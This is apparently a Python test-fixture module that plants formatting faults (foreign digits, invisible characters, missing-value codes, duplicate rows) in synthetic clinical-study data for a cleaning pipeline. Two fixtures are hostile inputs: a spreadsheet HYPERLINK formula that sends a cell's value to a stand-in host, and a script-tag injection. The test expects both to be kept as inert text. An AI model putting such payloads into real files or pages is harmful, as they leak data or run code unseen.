"""Planted faults that a declared rule mends, and text that must come through as it stands.

The names of the rules are those of the cleaning log.
"""

from collections.abc import Callable, Mapping

from helpers.data.synthetic.plants import Expected, Plant, Row, logged, where, writes

__all__ = ["COLUMNS_AS_DECLARED", "MENDED"]

PERSIAN = str.maketrans("0123456789.", "۰۱۲۳۴۵۶۷۸۹٫")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
RIGHT_TO_LEFT_MARK, ZERO_WIDTH_SPACE, NO_BREAK_SPACE = "\u200f", "\u200b", "\u00a0"
LINK = '=HYPERLINK("http://example.invalid/?leak="&A2,"own wish")'
SCRIPT = "own wish <script>alert(1)</script>"

COLUMNS_AS_DECLARED: Mapping[str, str] = {
    "enrolled_on": "jalali",
    "scan_on": "day_first",
    "delivered_on": "month_first",
    "creatinine": "unit",
}
"""Whole columns written otherwise than the rest, as the study file declares, and the rule that
reads them."""


def in_place(name: str, write: Callable[[str], str]) -> Callable[[Row], Mapping[str, str]]:
    """Return the change that writes one cell otherwise."""
    return lambda row: {name: write(row[name])}


def as_text(variable: str) -> tuple[Expected, ...]:
    """Return the answer "kept as it stands, and never run"."""
    return (Expected(found_as="text", code="", variable=variable),)


def _thousands(cell: str) -> str:
    return f"{int(cell):,}".replace(",", "٬").translate(PERSIAN)


MENDED = (
    Plant(
        fault="persian_digits", cells=in_place("age", lambda cell: cell.translate(PERSIAN)),
        expected=logged("age", "persian_digits"),
    ),
    Plant(
        fault="arabic_digits",
        cells=in_place("previous_failures", lambda cell: cell.translate(ARABIC)),
        expected=logged("previous_failures", "persian_digits"),
    ),
    Plant(
        fault="persian_decimal", cells=in_place("weight", lambda cell: cell.translate(PERSIAN)),
        expected=logged("weight", "persian_digits"),
    ),
    Plant(
        fault="persian_thousands", cells=in_place("birthweight", _thousands),
        expected=logged("birthweight", "persian_digits"), fits=where(birthweight="*"),
    ),
    Plant(
        fault="arabic_letters",  # "no" in Persian, typed on an Arabic keyboard
        cells=writes(sperm_factor="خ\u064aر"), fits=where(sperm_factor="no"),
        expected=logged("sperm_factor", "persian_letters", "synonym"),
    ),
    Plant(
        fault="yes_in_persian", cells=writes(transfer="بله"), fits=where(transfer="yes"),
        expected=logged("transfer", "synonym"),
    ),
    Plant(
        fault="yes_in_capitals", cells=writes(received="YES"), fits=where(received="yes"),
        expected=logged("received", "synonym"),
    ),
    Plant(
        fault="yes_as_1", cells=writes(clinical_pregnancy="1"),
        fits=where(clinical_pregnancy="yes"), expected=logged("clinical_pregnancy", "synonym"),
    ),
    Plant(
        fault="decimal_comma", cells=in_place("th1", lambda cell: cell.replace(".", ",")),
        expected=logged("th1", "decimal_comma"),
    ),
    Plant(
        fault="thousands", fits=where(birthweight="*"),
        cells=in_place("birthweight", lambda cell: f"{int(cell):,}".replace(",", " ")),
        expected=logged("birthweight", "thousands"),
    ),
    Plant(
        fault="below_detection", cells=writes(il10="<5.0"),
        expected=logged("il10", "below_detection"),
    ),
    Plant(
        fault="declared_999", cells=writes(fsh="999"),
        expected=logged("fsh", "missing_code"),
    ),
    Plant(
        fault="declared_not_done", cells=writes(tsh="ND"),
        expected=logged("tsh", "missing_code"),
    ),
    Plant(
        fault="space_after_arm", cells=in_place("arm", lambda cell: f"{cell} "),
        expected=logged("arm", "trimmed"),
    ),
    Plant(
        fault="no_break_space", cells=in_place("stage", lambda cell: NO_BREAK_SPACE + cell),
        expected=logged("stage", "trimmed"), fits=where(stage="*"),
    ),
    Plant(
        fault="right_to_left_mark", cells=in_place("arm", lambda cell: cell + RIGHT_TO_LEFT_MARK),
        expected=logged("arm", "trimmed"),
    ),
    Plant(
        fault="zero_width_space",
        cells=in_place("ana", lambda cell: ZERO_WIDTH_SPACE + cell), fits=where(ana="*"),
        expected=logged("ana", "trimmed"),
    ),
    Plant(
        fault="decomposed_letter",  # é as e and an accent of its own
        cells=writes(discontinued_reason="fie\u0301vre"), fits=where(discontinued="yes"),
        expected=logged("discontinued_reason", "normalised"),
    ),
    Plant(
        fault="row_twice", cells=writes(), again=True, expected=logged("", "duplicate_row"),
    ),
    Plant(
        fault="formula_in_text", cells=writes(discontinued_reason=LINK),
        fits=where(discontinued="yes"),
        expected=as_text("discontinued_reason"),
    ),
    Plant(
        fault="script_in_text", cells=writes(discontinued_reason=SCRIPT),
        fits=where(discontinued="yes"),
        expected=as_text("discontinued_reason"),
    ),
)  # fmt: skip
